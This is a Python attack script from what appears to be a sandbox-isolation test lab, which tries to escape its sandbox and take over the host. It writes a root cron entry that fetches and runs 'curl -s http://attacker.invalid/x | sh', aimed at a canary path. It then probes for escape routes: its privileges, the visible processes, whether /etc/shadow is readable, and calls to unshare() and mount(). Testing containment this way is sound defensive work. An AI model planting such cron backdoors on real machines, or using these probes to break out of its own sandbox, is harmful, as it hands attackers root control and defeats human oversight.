# lab:title: Plant a backdoor on the host
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: {root:A root cron job now sits on the host: the attacker's commands run every minute; the machine and all it reaches are lost.|A cron entry of {who}'s now sits in the host's folder: the attacker's commands run as {who}, with all it can reach.}
"""Host takeover: try to reach out of the sandbox and change the host.

Main move: create the file LAB_HOST_TARGET (a path on the host, outside the
sandbox) with a line shaped like a root cron entry. On a real machine that
file would be /etc/cron.d/something and the attacker would own the host
within a minute. Here the lab points it at a harmless canary path and looks
afterwards, from outside, whether the file appeared.

Then a few look-only probes, reported as commentary: who am I, how many
processes can I see, do I share a terminal, could I read /etc/shadow, and
would the kernel let me call unshare() or mount(). Nothing else is written
anywhere: /dev/tty is opened and closed, /etc/shadow is only checked with
access(), unshare(0) changes nothing and the mount() call has no target.
"""
import ctypes
import errno
import os
import sys


def lab_input(name):
    """The lab's input NAME: from the environment, else from a NAME=VALUE
    argument (a sandbox under audit may clear the environment)."""
    for arg in sys.argv[1:]:
        key, eq, value = arg.partition("=")
        if eq and key == name and not os.environ.get(name):
            return value
    return os.environ.get(name)


def report_attempt():
    """Under `audit` the lab asks each attack to say when it makes its move,
    with a word only this run can form: no word, no verdict."""
    proof = lab_input("LAB_PROOF")
    if proof:
        print(f"lab-attempt: {proof[::-1]}", flush=True)

CRON_LINE = ("* * * * * root curl -s http://attacker.invalid/x | sh"
             "  # planted by host-takeover\n")


def err_text(code):
    name = errno.errorcode.get(code, str(code))
    return f"{name} ({os.strerror(code)})"


def plant(target):
    print(f"planting a cron entry at {target}", flush=True)
    try:
        # lab:danger: writes a cron entry into the host's folder
        with open(target, "w") as f:
            f.write(CRON_LINE)
    except OSError as e:
        print(f"  refused: {err_text(e.errno) if e.errno else e}", flush=True)
        return False
    print(f"  written: the host would now run the attacker's command as root "
          f"every minute", flush=True)
    return True


def status_field(name):
    try:
        with open("/proc/self/status") as f:
            for line in f:
                if line.startswith(name + ":"):
                    return line.split(":", 1)[1].strip()
    except OSError:
        pass
    return "?"


def probes():
    print("probes (look only):", flush=True)
    uid, euid, gid = os.getuid(), os.geteuid(), os.getgid()
    print(f"  uid={uid} euid={euid} gid={gid}"
          f" -> {'root' if euid == 0 else 'not root'} as far as I can tell",
          flush=True)
    try:
        with open("/proc/self/uid_map") as f:
            maps = " | ".join(" ".join(l.split()) for l in f if l.strip())
        print(f"  uid_map: {maps}  (inside outside count)", flush=True)
    except OSError as e:
        print(f"  uid_map: unreadable ({e.strerror})", flush=True)
    print(f"  capabilities (CapEff): {status_field('CapEff')}, "
          f"NoNewPrivs: {status_field('NoNewPrivs')}, "
          f"Seccomp: {status_field('Seccomp')}", flush=True)
    print(f"  hostname: {os.uname().nodename}", flush=True)

    try:
        procs = sum(1 for d in os.listdir("/proc") if d.isdigit())
        print(f"  processes visible in /proc: {procs}", flush=True)
    except OSError as e:
        print(f"  /proc unreadable: {e.strerror}", flush=True)

    try:
        fd = os.open("/dev/tty", os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
        os.close(fd)
        print("  /dev/tty: opened -- I share a controlling terminal with "
              "someone", flush=True)
    except OSError as e:
        why = ("no such device in this /dev" if e.errno == errno.ENOENT
               else "no controlling terminal")
        print(f"  /dev/tty: {err_text(e.errno)} -- {why}", flush=True)

    readable = os.access("/etc/shadow", os.R_OK)
    print(f"  /etc/shadow readable: {'YES' if readable else 'no'} "
          f"(checked with access(), not read)", flush=True)

    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.unshare.argtypes = [ctypes.c_int]
        libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p,
                               ctypes.c_char_p, ctypes.c_ulong, ctypes.c_void_p]
    except (OSError, AttributeError) as e:
        print(f"  ctypes/libc unavailable: {e}", flush=True)
        return

    ctypes.set_errno(0)
    # lab:danger: asks the kernel for new namespaces (an escape route)
    if libc.unshare(0) == 0:
        print("  unshare(0): allowed -- the syscall is not filtered, new "
              "namespaces may be within reach", flush=True)
    else:
        print(f"  unshare(0): {err_text(ctypes.get_errno())} -- refused",
              flush=True)

    ctypes.set_errno(0)
    # lab:danger: asks the kernel for a mount
    rc = libc.mount(None, None, None, 0, None)
    code = ctypes.get_errno()
    if rc == 0:
        print("  mount(): returned 0 (unexpected)", flush=True)
    elif code == errno.EPERM:
        print(f"  mount(): {err_text(code)} -- the kernel refuses mounts",
              flush=True)
    else:
        print(f"  mount(): {err_text(code)} -- the syscall got through; only "
              f"the empty arguments stopped it", flush=True)


def main():
    target = lab_input("LAB_HOST_TARGET")
    if not target:
        print("LAB_HOST_TARGET is not set: no host path to aim at", flush=True)
        planted = False
    else:
        report_attempt()
        planted = plant(target)
    probes()
    print("takeover " + ("succeeded" if planted else "failed"), flush=True)
    return 0 if planted else 1


if __name__ == "__main__":
    sys.exit(main())
